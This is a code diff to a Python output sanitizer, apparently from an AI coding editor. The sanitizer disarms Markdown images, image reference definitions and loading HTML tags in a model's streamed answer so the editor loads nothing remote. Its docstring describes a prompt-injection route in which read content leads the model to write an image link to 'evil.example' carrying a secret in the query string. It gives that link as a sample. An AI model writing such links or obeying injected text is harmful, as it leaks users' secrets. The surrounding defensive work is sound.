@@ -1,14 +1,19 @@
-r"""Keeps an editor from fetching pictures that a text names (security.md 2.7; CVE-2025-54132).
+r"""Keeps an editor from loading what the text of an answer names: pictures, frames, scripts, styles.
 
-A page or a file a tool has read can talk the model into `![](https://evil.example/?q=<secret>)`; an editor that renders
-this has sent the secret. So what would make a renderer fetch something from elsewhere is broken with a backslash, and
-reads as what it is:
+A page or a file that a tool has read can talk the model into writing `![](https://evil.example/?q=<secret>)`. An editor
+that renders this sends the secret (CVE-2025-54132). Therefore a backslash is inserted into everything that a Markdown
+renderer would load from elsewhere. It then reads as the text it is:
 
     ![alt](https://…)    ![alt]\(https://…)     a `![` may stand far before, but in the same paragraph
     [label]: https://…   [label]\: https://…    a picture may name the label
+    <img src="https://…">    <\img src="https://…">     many renderers pass HTML through
 
-Pictures of this machine (`![](img/x.png)`, `data:`) stay, and so do links, which nobody follows unasked. Code blocks
-are no exception: nobody can say where one ends for every renderer. HTML is a matter of `html_tags`.
+Local pictures (`![](img/x.png)`, `data:`) stay, and so do links, which open only when the user clicks, and tags that
+load nothing (`<b>`, `<a href=…>`), `List<String>` and `<https://…>`.
+
+Code blocks do not protect Markdown pictures, because renderers disagree about where one ends. They protect HTML only if
+every renderer agrees: the fence begins in the first column with a language and after no other tag, and ends with a line
+of only its own characters. After anything else that looks like a fence no later fence is trusted.
 """
 
 import re
@@ -25,16 +30,16 @@ _LOADING: Final = frozenset(
     )
 )
 _RAW: Final = frozenset(("listing", "noembed", "noframes", "plaintext", "pre", "textarea", "xmp"))
-"""Tags that load nothing, but behind which a fence need not be one."""
+"""Tags that load nothing but whose content is raw, so that a fence inside them is not a fence."""
 _LOADING_ATTRIBUTE: Final = re.compile(
     r"[\s/\"'](?:\w*src|\w*srcset|srcdoc|poster|background|data|style|xlink:href|on\w+)\s*=",
     re.IGNORECASE,
 )
 _LONGEST_NAME: Final = 64
 _LONGEST_TAG: Final = 512
-"""Characters in which a tag must end; one that does not is taken for one that loads."""
+"""The longest tag, in characters. A longer one is treated as a tag that loads something."""
 _LONGEST_LINE: Final = 1000
-"""Characters of a line that are looked at for a fence."""
+"""How many characters of a line are searched for a fence."""
 _NAME: Final = re.compile(rf"[a-zA-Z][^\s/<>]{{0,{_LONGEST_NAME}}}")
 _END_OF_TAG: Final = re.compile("[<>]")
 _POINT: Final = re.compile("[\n<]")
@@ -50,17 +55,17 @@ class _Tag(Enum):
 
 
 class HtmlGuard:
-    """Breaks the loading tags of a stream. However the stream is cut, the pieces given back join to the same text.
+    """Disarms the loading tags of a stream. However the stream is cut, the results join to the same text.
 
-    What is held back is a tag that has only begun, a few hundred characters at most.
+    The beginning of a tag is held back, a few hundred characters at most.
     """
 
     def __init__(self) -> None:
         self._held = ""
-        self._line = ""  # of the line under way, what went out already
-        self._fence = ""  # what the code under way began with; empty outside of code
-        self._in_tags = False  # whether a line of the paragraph begins with a tag: a fence behind it may be HTML
-        self._trusts = True  # whether fences are what they seem
+        self._line = ""  # the part of the current line that was returned already
+        self._fence = ""  # the characters that began the current code block; empty outside of code
+        self._in_tags = False  # whether a line of the paragraph begins with a tag: a fence after it may be HTML
+        self._trusts = True  # whether fences are trusted
 
     def feed(self, chunk: str) -> str:
         """Return what is certain after this chunk; may be empty."""
@@ -97,7 +102,7 @@ class HtmlGuard:
         self._trusts = self._trusts and len(self._line) <= _LONGEST_LINE
 
     def _is_code(self, before: str) -> bool:
-        """Whether what stands in the line behind `before` is code for every renderer."""
+        """Return whether the text of the line after `before` is code for every renderer."""
         if not self._fence or not self._trusts or len(self._line) + len(before) > _LONGEST_LINE:
             return False
         return _FENCE.search(self._line + before) is None
@@ -123,7 +128,7 @@ class HtmlGuard:
 
 
 def _judged(text: str, at: int, *, is_all: bool) -> _Tag | None:
-    """What the tag is whose name would begin at `at`; None where that is still to come."""
+    """Return what to do with the tag whose name would begin at `at`. None if more text is needed."""
     if text[at : at + 1] in ("!", "?"):  # a comment or a declaration
         return _Tag.RAW
     name = _NAME.match(text, at)
@@ -140,7 +145,7 @@ def _judged(text: str, at: int, *, is_all: bool) -> _Tag | None:
 
 
 def _by_attributes(text: str, at: int, without: _Tag, *, is_all: bool) -> _Tag | None:
-    """What a tag is whose attributes begin at `at`: `without` where none of them loads."""
+    """Return what to do with a tag whose attributes begin at `at`: `without` if none of them loads anything."""
     ends = _END_OF_TAG.search(text, at, at + _LONGEST_TAG)
     is_cut = ends is None and len(text) < at + _LONGEST_TAG
     if is_cut and not is_all:
@@ -152,13 +157,13 @@ def _by_attributes(text: str, at: int, without: _Tag, *, is_all: bool) -> _Tag |
 
 
 _LONGEST_TARGET = 256
-"""Characters of a target that are looked at: what is not known to be local by then is not."""
+"""How many characters of a target are looked at. A target that is not known to be local by then counts as remote."""
 
 _LONGEST_GAP = 16
-"""White space in front of it, likewise."""
+"""How much white space before a target is accepted."""
 
 _SLICE = 64 * 1024
-"""Characters looked through at once, which takes milliseconds: other threads wait for that long."""
+"""How many characters are searched at once. Other threads wait for these milliseconds."""
 
 _PLAIN = rf"[\w./#?=@+,%~-]{{1,{_LONGEST_TARGET}}}+"
 _GAP = rf"[ \t\n]{{0,{_LONGEST_GAP}}}"
@@ -168,16 +173,16 @@ _UNDECIDED = re.compile(rf"(?:!|\]|\n[ \t]*|\][(:]{_GAP}<?[^\s)>\"']{{0,{_LONGES
 
 
 def defused(text: str) -> str:
-    """The whole text, with nothing in it that a renderer would load from elsewhere, and no character that acts."""
+    """Return the text without characters that act and without anything that a renderer would load from elsewhere."""
     guard = AnswerGuard()
     pieces = [guard.feed(text[start : start + _SLICE]) for start in range(0, len(text), _SLICE)]
     return "".join((*pieces, guard.finish()))
 
 
 class AnswerGuard:
-    """Makes a stream of words fit for an editor: characters, HTML and pictures.
+    """Makes a stream of the model's text safe for an editor: control characters, HTML and pictures.
 
-    However it is cut, the pieces given back join to the same text.
+    However the stream is cut, the results join to the same text.
     """
 
     def __init__(self) -> None:
@@ -198,9 +203,9 @@ class AnswerGuard:
 
 
 class ImageGuard:
-    """Defuses a stream. However it is cut, the pieces given back join to the same text.
+    """Disarms the pictures of a stream. However the stream is cut, the results join to the same text.
 
-    What is held back is the beginning of a construct, a few hundred characters at most.
+    The beginning of a construct is held back, a few hundred characters at most.
     """
 
     def __init__(self) -> None:
@@ -208,7 +213,7 @@ class ImageGuard:
         self._pictured = False  # whether a `![` stands in the paragraph
 
     def feed(self, chunk: str) -> str:
-        """What is certain after this chunk; may be empty."""
+        """Return what is certain after this chunk; may be empty."""
         text = self._held + chunk
         undecided = _UNDECIDED.search(text, max(0, len(text) - _LONGEST_TARGET - _LONGEST_GAP - 8))
         end = undecided.start() if undecided else len(text)
@@ -216,7 +221,7 @@ class ImageGuard:
         return self._broken(text, end)
 
     def finish(self) -> str:
-        """The rest."""
+        """Return the rest."""
         rest, self._held = self._held, ""
         return self._broken(rest, len(rest))
 
